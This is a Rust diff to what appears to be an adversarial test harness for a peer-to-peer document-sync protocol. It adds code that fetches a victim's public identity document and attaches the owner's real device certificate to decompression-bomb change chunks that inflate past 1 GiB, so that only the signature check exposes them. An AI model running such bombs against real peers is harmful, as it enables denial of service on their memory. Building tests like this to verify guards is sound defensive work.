@@ -147,11 +147,55 @@ pub async fn bomb_document(
     Ok(report)
 }
 
+/// A public document of `owner` as the victim serves it to anyone.
+async fn fetch_public(addr: &Multiaddr, owner: AccountId, doc: DocKind) -> anyhow::Result<Doc> {
+    let mut scout = Hostile::fresh()?;
+    scout.connect(addr, true, CONNECT).await?;
+    let (id, _) = scout.send_sync(SyncRequest::Pull(vec![PullItem {
+        owner,
+        doc,
+        heads: vec![],
+        since: vec![],
+    }]));
+    let Some(Answer::Sync(SyncResponse::Pull(results))) = scout.wait_answer(id, CONNECT).await
+    else {
+        bail!("the victim did not serve {doc}");
+    };
+    let outcome = results
+        .into_iter()
+        .find(|r| r.owner == owner && r.doc == doc)
+        .map(|r| r.outcome)
+        .context("no such document in the answer")?;
+    let device = scout.identity.device();
+    match outcome {
+        PullOutcome::Changes { batch, .. } => {
+            let mut copy = Doc::new(&device);
+            let changes = batch
+                .changes
+                .into_iter()
+                .map(|c| ParsedChange::parse(c.bytes))
+                .collect::<Result<Vec<_>, _>>()?;
+            copy.apply(changes)?;
+            Ok(copy)
+        }
+        PullOutcome::Document { doc, .. } => Ok(Doc::from_peer(&doc, &device)?),
+        other => bail!("the victim answered {other:?}"),
+    }
+}
+
 /// Compressed change chunks (the largest a change may be) that inflate to
 /// more than 1 GiB together, in pull answers; and small ones inline in
-/// announcements.
+/// announcements. They carry the owner's real device certificate (public,
+/// in its identity document), so only the signature, checked last before
+/// the guard existed, gives them away.
 pub async fn bomb_change(addr: &Multiaddr, owner: AccountId, secs: u64) -> anyhow::Result<Report> {
     let evil = Hostile::fresh()?;
+    let identity = fetch_public(addr, owner, DocKind::Identity).await?;
+    let owner_certs = kith_crdt::identity::devices(&identity, &owner);
+    let cert = owner_certs
+        .first()
+        .cloned()
+        .unwrap_or_else(|| evil.identity.cert.clone());
     let per_chunk = CHANGE_CHUNK * 1000;
     let chunks = BOMB_TOTAL.div_ceil(per_chunk);
     let chunk = craft::inflating_change(per_chunk);
@@ -161,7 +205,7 @@ pub async fn bomb_change(addr: &Multiaddr, owner: AccountId, secs: u64) -> anyho
         .device_key
         .sign(kith_keys::sign::Context::DocumentChange, b"x");
     for _ in 0..chunks {
-        batch.push(chunk.clone(), signature, &evil.identity.cert);
+        batch.push(chunk.clone(), signature, &cert);
     }
     let outcome = PullOutcome::Changes {
         heads: vec![random_hash()],
@@ -169,11 +213,7 @@ pub async fn bomb_change(addr: &Multiaddr, owner: AccountId, secs: u64) -> anyho
         more: true,
     };
     let mut inline = ChangeBatch::default();
-    inline.push(
-        craft::inflating_change(12 * 1024 * 1000),
-        signature,
-        &evil.identity.cert,
-    );
+    inline.push(craft::inflating_change(12 * 1024 * 1000), signature, &cert);
     let mut report = bait(
         addr,
         owner,
@@ -186,6 +226,9 @@ pub async fn bomb_change(addr: &Multiaddr, owner: AccountId, secs: u64) -> anyho
     report
         .extra
         .insert("chunk_bytes".into(), json!(chunk.len()));
+    report
+        .extra
+        .insert("owner_certificate".into(), json!(!owner_certs.is_empty()));
     Ok(report)
 }
 
